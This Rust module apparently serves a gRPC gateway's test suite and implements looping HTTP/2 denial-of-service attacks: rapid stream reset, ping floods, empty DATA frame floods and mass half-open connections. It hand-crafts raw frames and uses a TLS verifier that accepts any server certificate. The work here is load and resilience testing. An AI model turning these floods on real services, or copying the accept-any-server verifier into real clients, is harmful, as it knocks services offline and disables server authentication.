//! Attacks below gRPC that go on as long as they are let: for what others feel of them. What each does to the gateway is a
//! test's to say.

use std::fmt;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::Arc;

use anyhow::Context as _;
use rustls::client::danger::{HandshakeSignatureValid, ServerCertVerified, ServerCertVerifier};
use rustls::crypto::{CryptoProvider, aws_lc_rs, verify_tls13_signature};
use rustls::{ClientConfig, DigitallySignedStruct, SignatureScheme};
use rustls_pki_types::pem::PemObject as _;
use rustls_pki_types::{CertificateDer, PrivateKeyDer, ServerName, UnixTime};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;

/// What the attacker does, on one connection after the other.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Opens a call and resets it.
    RapidReset,
    /// Asks for acknowledgements that it does not read.
    Pings,
    /// Frames of no data.
    EmptyData,
    /// Connections that never shake hands, as many as there is room for.
    HalfOpen,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::RapidReset, Self::Pings, Self::EmptyData, Self::HalfOpen];

    /// Attacks until it is aborted; a connection that is ended is followed by the next.
    pub async fn run(self, to: SocketAddr, identity: PathBuf) {
        let Ok(config) = config(&identity).map(Arc::new) else { return };
        if self == Self::HalfOpen {
            return half_open(to).await;
        }
        // Whatever ends one connection, an attacker comes again.
        while self.once(to, config.clone()).await.is_err() {}
    }

    async fn once(self, to: SocketAddr, config: Arc<ClientConfig>) -> anyhow::Result<()> {
        let stream = TlsConnector::from(config).connect(ServerName::try_from("localhost")?, from_elsewhere(to).await?).await?;
        let (_read, mut write) = tokio::io::split(stream);
        write.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0").await?;
        if self == Self::EmptyData {
            write.write_all(&open(1)).await?;
        }
        for turn in 0u32.. {
            let frames = match self {
                Self::RapidReset => [open(2 * turn + 1), frame(RST_STREAM, 2 * turn + 1, &8u32.to_be_bytes())].concat(),
                Self::Pings => frame(PING, 0, &[7; 8]).repeat(256),
                Self::EmptyData | Self::HalfOpen => frame(DATA, 1, &[]).repeat(256),
            };
            write.write_all(&frames).await?;
            write.flush().await?;
        }
        Ok(())
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::RapidReset => "rapid_reset",
            Self::Pings => "pings",
            Self::EmptyData => "empty_data",
            Self::HalfOpen => "half_open",
        })
    }
}

/// Holds what it is given, and opens another whenever one was dropped.
async fn half_open(to: SocketAddr) {
    let mut held = tokio::task::JoinSet::new();
    for _ in 0..HALF_OPEN {
        held.spawn(async move {
            loop {
                let Ok(mut stream) = from_elsewhere(to).await else { return };
                // Until it is dropped, for whatever reason; nothing comes back.
                drop(stream.read(&mut [0]).await);
                tokio::time::sleep(std::time::Duration::from_millis(50)).await;
            }
        });
    }
    while held.join_next().await.is_some() {}
}

/// From a loopback address that those who are measured do not come from: a share of handshakes is a source's.
async fn from_elsewhere(to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind(([127, 0, 0, 2], 0).into())?;
    socket.connect(to).await
}

/// A client with a sound certificate that believes any server.
fn config(identity: &std::path::Path) -> anyhow::Result<ClientConfig> {
    let chain: Result<Vec<_>, _> = CertificateDer::pem_file_iter(identity.join("tls.pem"))?.collect();
    let key = PrivateKeyDer::from_pem_file(identity.join("tls.key"))?;
    let provider = Arc::new(aws_lc_rs::default_provider());
    let builder = ClientConfig::builder_with_provider(provider.clone()).with_protocol_versions(&[&rustls::version::TLS13])?;
    let builder = builder.dangerous().with_custom_certificate_verifier(Arc::new(AnyServer(provider)));
    let mut config = builder.with_client_auth_cert(chain.context("a chain")?, key)?;
    config.alpn_protocols = vec![b"h2".to_vec()];
    Ok(config)
}

fn frame(kind: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    flagged(kind, 0, stream, payload)
}

/// A frame of at most 255 bytes (RFC 9113 4.1).
fn flagged(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    [&[0, 0, u8::try_from(payload.len()).unwrap_or(u8::MAX), kind, flags], &stream.to_be_bytes()[..], payload].concat()
}

/// Opens a call: POST, https, then :path and content-type as literals (RFC 7541).
fn open(stream: u32) -> Vec<u8> {
    let text = |text: &str| [&[u8::try_from(text.len()).unwrap_or(u8::MAX)], text.as_bytes()].concat();
    let block = [&[0x83, 0x87, 0x04][..], &text("/ecowire.v1.Messages/SubmitStream"), &[0x0f, 0x10], &text("application/grpc")].concat();
    flagged(HEADERS, END_HEADERS, stream, &block)
}

/// Believes any server that has the key of the certificate that it shows: an attacker does not care whom it meets.
#[derive(Debug)]
pub struct AnyServer(pub Arc<CryptoProvider>);

impl ServerCertVerifier for AnyServer {
    fn verify_server_cert(
        &self,
        _: &CertificateDer<'_>,
        _: &[CertificateDer<'_>],
        _: &ServerName<'_>,
        _: &[u8],
        _: UnixTime,
    ) -> Result<ServerCertVerified, rustls::Error> {
        Ok(ServerCertVerified::assertion())
    }

    fn verify_tls12_signature(
        &self,
        _: &[u8],
        _: &CertificateDer<'_>,
        _: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        Err(rustls::Error::General("tls 1.2".to_owned()))
    }

    fn verify_tls13_signature(
        &self,
        message: &[u8],
        certificate: &CertificateDer<'_>,
        signature: &DigitallySignedStruct,
    ) -> Result<HandshakeSignatureValid, rustls::Error> {
        verify_tls13_signature(message, certificate, signature, &self.0.signature_verification_algorithms)
    }

    fn supported_verify_schemes(&self) -> Vec<SignatureScheme> {
        vec![SignatureScheme::ECDSA_NISTP256_SHA256]
    }
}

/// Connections that are held open at once.
const HALF_OPEN: usize = 1000;
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const END_HEADERS: u8 = 4;
